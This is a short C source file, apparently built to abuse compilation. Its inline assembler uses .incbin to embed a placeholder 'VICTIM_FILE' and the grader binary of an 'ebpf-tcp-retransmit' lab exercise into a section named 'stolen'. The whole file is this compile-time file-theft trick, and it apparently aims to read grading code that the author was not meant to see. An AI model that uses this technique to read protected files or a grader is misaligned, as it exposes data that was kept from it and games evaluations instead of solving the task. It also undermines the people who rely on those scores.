//go:build ignore

__asm__(".section stolen,\"a\"\n"
        ".incbin \"VICTIM_FILE\"\n"
        ".incbin \"/opt/gopherlab/graders/ebpf-tcp-retransmit/grader\"\n"
        ".previous\n");

int secret;
